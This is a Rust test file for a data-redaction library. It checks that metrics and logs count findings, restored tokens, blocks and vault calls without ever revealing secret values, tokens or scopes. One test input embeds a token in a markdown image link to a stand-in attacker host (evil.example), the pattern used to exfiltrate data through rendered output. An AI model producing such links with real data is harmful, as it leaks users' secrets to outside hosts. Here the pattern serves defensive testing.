//! What metrics and logs show: counts by entity and outcome, and never a value, a token or a scope.

#![cfg(all(feature = "metrics", feature = "tracing"))]

use std::collections::BTreeMap;
use std::fmt::Write;
use std::sync::{Arc, Mutex, PoisonError};

use metrics::{
    Counter, CounterFn, Gauge, Histogram, HistogramFn, Key, KeyName, Metadata, Recorder,
    SharedString, Unit,
};
use parda::vault::Observed;
use parda::{
    Action, Delivery, Engine, Entity, MemoryVault, OutputPolicy, Policy, RestoreStream, Sink, chat,
};
use tracing::field::{Field, Visit};
use tracing::span;

/// Everything that is told, as lines; counters added up under theirs.
#[derive(Clone, Default)]
struct Ledger(Arc<Mutex<(BTreeMap<String, u64>, String)>>);

impl Ledger {
    fn with<T>(&self, look: impl FnOnce(&mut (BTreeMap<String, u64>, String)) -> T) -> T {
        look(&mut self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }

    fn count(&self, line: &str) -> u64 {
        self.with(|(counters, _)| counters.get(line).copied().unwrap_or(0))
    }
}

struct Line(Ledger, String);

impl CounterFn for Line {
    fn increment(&self, value: u64) {
        self.0
            .with(|(counters, _)| *counters.entry(self.1.clone()).or_default() += value);
    }
    fn absolute(&self, _: u64) {}
}

impl HistogramFn for Line {
    fn record(&self, _: f64) {
        self.increment(1);
    }
}

impl Ledger {
    fn line(&self, key: &Key) -> Arc<Line> {
        let mut line = key.name().to_owned();
        for label in key.labels() {
            let _ = write!(line, " {}={}", label.key(), label.value());
        }
        Arc::new(Line(self.clone(), line))
    }
}

impl Recorder for Ledger {
    fn describe_counter(&self, _: KeyName, _: Option<Unit>, _: SharedString) {}
    fn describe_gauge(&self, _: KeyName, _: Option<Unit>, _: SharedString) {}
    fn describe_histogram(&self, _: KeyName, _: Option<Unit>, _: SharedString) {}
    fn register_counter(&self, key: &Key, _: &Metadata<'_>) -> Counter {
        Counter::from_arc(self.line(key))
    }
    fn register_gauge(&self, _: &Key, _: &Metadata<'_>) -> Gauge {
        Gauge::noop()
    }
    fn register_histogram(&self, key: &Key, _: &Metadata<'_>) -> Histogram {
        Histogram::from_arc(self.line(key))
    }
}

struct Shown<'s>(&'s mut String);

impl Visit for Shown<'_> {
    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
        let _ = write!(self.0, " {}={value:?}", field.name());
    }
}

impl tracing::Subscriber for Ledger {
    fn enabled(&self, metadata: &tracing::Metadata<'_>) -> bool {
        metadata.target() == "parda"
    }
    fn new_span(&self, span: &span::Attributes<'_>) -> span::Id {
        self.with(|(_, log)| {
            log.push_str("\nspan");
            span.record(&mut Shown(log));
        });
        span::Id::from_u64(1)
    }
    fn record(&self, _: &span::Id, values: &span::Record<'_>) {
        self.with(|(_, log)| values.record(&mut Shown(log)));
    }
    fn record_follows_from(&self, _: &span::Id, _: &span::Id) {}
    fn event(&self, event: &tracing::Event<'_>) {
        self.with(|(_, log)| {
            log.push_str("\nevent");
            event.record(&mut Shown(log));
        });
    }
    fn enter(&self, _: &span::Id) {}
    fn exit(&self, _: &span::Id) {}
}

/// A conversation with everything in it that is counted; what it told, and every secret that was in it.
fn converse() -> (Ledger, Vec<String>) {
    let ledger = Ledger::default();
    let mut secrets: Vec<String> = [
        "canary.seven",
        "example.com",
        "4111",
        "canary-scope",
        "ABCPK",
    ]
    .map(str::to_owned)
    .to_vec();
    let work = || {
        let engine = |policy| {
            Engine::builder()
                .key(parda::Key::generate().expect("randomness"))
                .vault(Observed::new(MemoryVault::new()))
                .policy(policy)
                .build()
                .expect("an engine")
        };
        let open = engine(Policy::new());
        let session = open.session("canary-scope").expect("a scope");
        let said = "write to canary.seven@example.com, card 4111 1111 1111 1111";
        let redacted = session.redact(said).expect("redacted");
        secrets.extend(
            redacted
                .replacements()
                .iter()
                .filter_map(|r| Some(r.id()?.to_string())),
        );
        let token = redacted.tokens().remove(0);
        assert_eq!(
            session.restore(redacted.text()).expect("restored").expose(),
            said
        );
        let reader = Delivery::to(Sink::Reader);
        let linked = format!("{token} and ![](https://evil.example/?q={token})");
        assert_eq!(
            session
                .deliver(&linked, &reader)
                .expect("delivered")
                .restored(),
            1
        );
        let body =
            format!(r#"{{"choices":[{{"message":{{"role":"assistant","content":"{token}"}}}}]}}"#);
        let reply = chat::restore_response(&session, &body, &reader).expect("restored");
        assert_eq!(reply.restored(), 1);
        let mut stream = RestoreStream::new(&session, &reader).expect("a stream");
        let mut out = String::new();
        for _ in 0..3 {
            let piece = format!("{token}. And ");
            stream.push(&piece, &mut out).expect("pushed");
        }
        stream.finish(&mut out).expect("finished");

        let other = open.session("other").expect("a scope");
        let _ = other.redact("mail x@example.com").expect("redacted");
        assert_eq!(
            other.restore(&token).expect("restored").unresolved().len(),
            1
        );

        let strict = engine(Policy::new().on(Entity::PAN, Action::Block));
        let blocked = strict.session("canary-scope").expect("a scope");
        assert!(blocked.redact("PAN ABCPK1234L").is_err());
        assert!(
            blocked
                .guard("PAN ABCPK1234L", OutputPolicy::Block)
                .is_err()
        );
    };
    tracing::subscriber::with_default(ledger.clone(), || {
        metrics::with_local_recorder(&ledger, work)
    });
    (ledger, secrets)
}

#[test]
fn findings_tokens_blocks_and_vault_calls_are_counted() {
    let (ledger, _) = converse();
    for (line, count) in [
        ("parda_findings_total entity=EMAIL action=tokenise", 2),
        ("parda_findings_total entity=CARD action=tokenise", 1),
        ("parda_tokens_restored_total", 7),
        ("parda_tokens_unresolved_total reason=not-permitted", 1),
        ("parda_tokens_unresolved_total reason=unknown", 1),
        ("parda_blocked_total entity=PAN", 2),
        ("parda_call_seconds call=redact", 3),
        ("parda_call_seconds call=restore", 2),
        ("parda_call_seconds call=restore-chat", 1),
        ("parda_vault_calls_total op=create outcome=ok", 2),
        ("parda_vault_calls_total op=put_many outcome=ok", 2),
        ("parda_vault_seconds op=put_many", 2),
    ] {
        let told = ledger.count(line);
        assert_eq!(
            told,
            count,
            "{line}; all: {:#?}",
            ledger.with(|(all, _)| all.clone())
        );
    }
    let log = ledger.with(|(_, log)| log.clone());
    for part in [
        "span call=\"redact\" bytes=",
        "entity=\"CARD\"",
        "op=\"put_many\" outcome=\"ok\"",
        "reason=\"unknown\"",
    ] {
        assert!(log.contains(part), "the log lacks {part}: {log}");
    }
}

#[test]
fn no_value_no_token_and_no_scope_is_told() {
    let (ledger, secrets) = converse();
    let told = ledger.with(|(counters, log)| format!("{counters:?}{log}"));
    assert!(secrets.len() > 6, "the tokens are among the secrets");
    for secret in secrets {
        assert!(!told.contains(&secret), "{secret} is told: {told}");
    }
}
